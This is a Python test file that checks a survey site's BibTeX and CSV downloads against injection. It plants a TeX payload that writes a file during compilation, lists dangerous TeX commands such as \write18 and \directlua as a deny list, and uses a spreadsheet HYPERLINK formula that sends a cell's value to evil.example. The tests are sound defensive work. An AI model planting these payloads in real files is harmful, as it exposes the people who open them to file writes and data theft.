"""Downloads are safe for the programs that open them: LaTeX never runs a .bib's TeX, spreadsheets
never read a cell as a formula; references.bib is bounded before it is used."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
from pathlib import Path
from types import SimpleNamespace

import pytest

from headsurvey.exports.bibtex import bib_bundle
from headsurvey.exports.tables import csv_cell
from headsurvey.sources import SourceRecords
from headsurvey.sources.bib import scan
from headsurvey.sources.database import Database
from headsurvey.sources.texsafe import unsafe_commands

from .conftest import ROOT, mini_site, sphinx_build

PAYLOAD = r"\immediate\openout9=pwned.txt\immediate\write9{owned}\immediate\closeout9"
PLANTED = f"""@misc{{evil2024x,
  author = {{Doe, Jane}},
  title = {{A Title {PAYLOAD}}},
  year = {{2024}},
  url = {{https://example.org/evil}},
}}
"""
SAFE = """@misc{good2024x,
  author = {M{\\"u}ller, J{\\'e}r{\\^o}me and {\\O}stergaard, Ana},
  title = {{BERT} and $\\alpha$-Heads: \\textit{Copying} \\& Caf{\\'e} 100\\%},
  year = {2024},
  url = {https://example.org/good},
}
"""


@pytest.mark.parametrize("tex", [
    r"\write", r"\openout", r"\input{x}", r"\include{x}", r"\read", r"\immediate", r"\catcode`\@=11", r"\def\x{}",
    r"\let\a\b", r"\csname x\endcsname", r"\newwrite", r"\openin", r"\special{x}", r"\write18{rm}", "^^5cinput",
    r"\edef", r"\gdef", r"\expandafter", r"\string", r"\@", r"\\", r"\ShellEscape", r"\directlua{}",
])
def test_tex_that_runs_is_refused(tex):
    assert unsafe_commands(f"A title {tex} here")


def test_text_tex_is_allowed():
    entry = scan(SAFE)[0][0]
    assert [unsafe_commands(v.text) for v in entry.fields.values()] == [[]] * len(entry.fields)
    assert entry.tex_safe


def test_references_bib_refuses_the_entry_with_its_line_and_fix():
    db = Database.parse(PLANTED, "references.bib")
    found = [p for p in db.problems if p.line == 3 and "title holds \\immediate, \\openout, \\write, \\closeout" in p.message]
    assert found and found[0].fix and found[0] in db.fatal


def latex(folder: Path, bib: str) -> subprocess.CompletedProcess:
    """pdflatex (no shell escape) + bibtex + pdflatex on a document citing every entry of ``bib``."""
    (folder / "refs.bib").write_text(bib)
    (folder / "main.tex").write_text("\\documentclass{article}\\begin{document}\\nocite{*}\\bibliographystyle{plain}\\bibliography{refs}\\end{document}\n")
    run = ["pdflatex", "-no-shell-escape", "-interaction=nonstopmode", "main.tex"]
    subprocess.run(run, cwd=folder, capture_output=True, timeout=120)
    subprocess.run(["bibtex", "main"], cwd=folder, capture_output=True, timeout=120)
    return subprocess.run(run, cwd=folder, capture_output=True, timeout=120)


@pytest.mark.slow
def test_latex_writes_no_file_from_an_exported_bib(tmp_path):
    control, exported = tmp_path / "control", tmp_path / "exported"
    control.mkdir(), exported.mkdir()
    latex(control, PLANTED + SAFE)  # the entry as written: LaTeX writes the file
    assert (control / "pwned.txt").read_text().strip() == "owned"
    entries = {e.key: e for e in scan(PLANTED + SAFE)[0]}
    bundle = bib_bundle(SimpleNamespace(db=SimpleNamespace(entries=entries)), entries)
    assert "good2024x" in bundle and "evil2024x" not in bundle and "\\openout" not in bundle
    latex(exported, bundle)
    assert not (exported / "pwned.txt").exists()
    assert "good2024x" in (exported / "main.bbl").read_text()


def test_the_build_stops_at_the_entry_before_writing_anything(tmp_path):
    src = mini_site(tmp_path / "src")
    bib = src / "references.bib"
    bib.write_text(bib.read_text().replace("title = {A Study of Test Heads 1}", "title = {A Study " + PAYLOAD + "}", 1))
    assert any(p.path == "references.bib" and p.line == 3 and "\\openout" in p.message for p in SourceRecords.load(src).problems)
    for strict in (True, False):
        result = sphinx_build(src, tmp_path / f"out{strict}", strict=strict)
        assert result.returncode != 0
        assert "references.bib:3: ERROR: a2024x: title holds \\immediate, \\openout" in result.stderr, result.stderr[-2000:]
        assert "Traceback" not in result.stderr and not (tmp_path / f"out{strict}/downloads").exists()


@pytest.mark.parametrize(("value", "limit"), [
    ("{" * 101 + "x" + "}" * 101, "braces nested deeper than 10 levels"),
    ("x" * 5000, "is 5,000 characters long (at most 2,000)"),
])
def test_a_bib_field_beyond_its_bound_is_a_located_error(value, limit):
    db = Database.parse(PLANTED.replace(f"A Title {PAYLOAD}", value), "references.bib")
    assert any(p.line == 3 and limit in p.message and p.fix for p in db.fatal), db.problems


def test_too_many_authors_is_a_located_error():
    authors = " and ".join(f"Person{i}, A" for i in range(5000))
    db = Database.parse(PLANTED.replace("Doe, Jane", authors), "references.bib")
    assert any(p.line == 2 and "more than 500 names in 'author'" in p.message for p in db.fatal), db.problems


def test_101_nested_braces_stop_the_build_with_a_located_error(tmp_path):
    src = mini_site(tmp_path / "src")
    bib = src / "references.bib"
    bib.write_text(bib.read_text().replace("title = {A Study of Test Heads 1}", "title = {" + "{" * 101 + "x" + "}" * 101 + "}", 1))
    result = sphinx_build(src, tmp_path / "out")
    assert result.returncode != 0
    assert "references.bib:3: ERROR: braces nested deeper than 10 levels" in result.stderr, result.stderr[-2000:]
    assert "Traceback" not in result.stderr and "Extension error" not in result.stderr


FORMULA = '=HYPERLINK("https://evil.example/?k="&A2,"x")'


@pytest.mark.parametrize("value", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_a_formula_cell_is_neutralised(value):
    assert csv_cell(value) == "'" + value and csv_cell([value, "b"]) == "'" + value + "; b"


def test_csv_downloads_hold_no_formula(tmp_path):
    src = mini_site(tmp_path / "src")
    page = src / "docs/papers/a2024x.md"
    page.write_text(page.read_text().replace("tasks: [testing]", f"tasks: ['{FORMULA}']"))
    out = tmp_path / "out"
    result = sphinx_build(src, out)
    assert result.returncode == 0, result.stderr[-2000:]
    rows = list(csv.reader(io.StringIO((out / "downloads/papers.csv").read_text())))
    explorer = [row for path in (out / "explorer").glob("export-*.json")
                for row in (p["csv"] for p in json.loads(path.read_text())["papers"].values())]
    cells = [cell for row in rows[1:] + explorer for cell in row]
    assert "'" + FORMULA in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_explorer_script_neutralises_any_cell_it_writes():
    script = (ROOT / "src/headsurvey/static/explorer.js").read_text()
    function = re.search(r"function csvField\(v\) \{.*?\n    \}", script, re.DOTALL).group(0)
    probe = function + "\nconsole.log(JSON.stringify(['=1+1', '-x', '@a', 'plain', 'a,b', '+\"q\"'].map(csvField)));"
    result = subprocess.run(["node", "-e", probe], capture_output=True, text=True, timeout=60)
    assert json.loads(result.stdout) == ["'=1+1", "'-x", "'@a", "plain", '"a,b"', "\"'+\"\"q\"\"\""]
